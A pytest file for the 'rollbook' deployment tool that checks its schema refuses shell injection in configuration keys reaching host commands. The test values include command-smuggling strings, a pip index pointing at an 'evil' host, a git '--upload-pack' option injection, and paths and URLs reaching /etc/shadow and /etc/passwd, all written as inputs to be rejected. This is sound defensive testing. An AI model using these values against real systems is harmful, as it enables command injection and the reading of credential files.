"""Injections in every data key that reaches a host command: refused by the schema (full-match
patterns, one line naming the key) before any host is touched."""

import pytest

from rollbook.core import schema
from rollbook.core.preflight import PreflightError

# every data key whose value reaches a shell command on a host (paths, units, images, refs, keys, args)
COMMAND_KEYS = [
    "vision_env_file", "vision_project_dir", "vision_service", "vision_experiments_file", "vision_saved_dir",
    "analyticbot_database_url_key", "analyticbot_systemd_unit", "analyticbot_compose_service",
    "analyticbot_env_file", "analyticbot_checkout", "analyticbot_log_file", "analyticbot_release",
    "analyticbot_channel", "analyticbot_project_dir",
    "phase17_server_dir", "phase17_systemd_unit", "phase17_venv", "phase17_env_file", "phase17_main_file",
    "voice_image", "voice_systemd_unit", "voice_compose_service", "voice_app_dir", "voice_env_file",
    "voice_git_ref", "voice_previous_image_tag", "voice_code_dir", "voice_venv", "voice_compose_file",
]
ATTACKS = ["x; touch /tmp/pwned", "$(touch /tmp/pwned)", "`touch /tmp/pwned`", "ok\n", "x' 'y", "a|b", "a&&b"]


@pytest.mark.parametrize("key", COMMAND_KEYS)
@pytest.mark.parametrize("value", ATTACKS, ids=["semicolon", "dollar-paren", "backtick", "newline", "quote",
                                                "pipe", "and"])
def test_an_injection_in_a_command_key_is_refused_naming_the_key(key, value):
    with pytest.raises(PreflightError) as refused:
        schema.validate({key: value})
    assert key in str(refused.value) and "\n" not in str(refused.value)


@pytest.mark.parametrize("value", ["--index-url=http://evil/ ; id", "$(id)", "-r /etc/shadow\n", "a`b`"])
def test_pip_arguments_are_refused_unless_plain_options(value):
    with pytest.raises(PreflightError, match="voice_pip_args"):
        schema.validate({"voice_pip_args": value})


@pytest.mark.parametrize("key, value", [
    ("voice_image", "-x"), ("voice_git_ref", "--upload-pack=touch /tmp/x"), ("analyticbot_release", "-b"),
    ("vision_service", "--help"), ("phase17_main_file", "../../etc/passwd"), ("voice_git_ref", "a..b"),
    ("vision_saved_dir", "-rf"),
])
def test_option_injection_and_path_escapes_are_refused(key, value):
    with pytest.raises(PreflightError, match=key):
        schema.validate({key: value})


@pytest.mark.parametrize("key, value", [
    ("vision_metrics_url", "http://127.0.0.1:8001/$(id)"), ("voice_base_url", "file:///etc/passwd"),
    ("phase17_base_url", "http://x/ y"), ("analyticbot_base_url", "http://x/`id`"),
])
def test_urls_that_would_reach_curl_are_refused_unless_plain_http(key, value):
    with pytest.raises(PreflightError, match=key):
        schema.validate({key: value})


def test_plain_values_still_pass():
    schema.validate({"vision_saved_dir": "/var/lib/rollbook/saved/vision", "voice_image": "registry:5000/voice-v2",
                     "voice_git_ref": "v2.0.0", "analyticbot_release": "release/7.4", "voice_pip_args": "--no-index",
                     "analyticbot_database_url_key": "DATABASE_URL"})
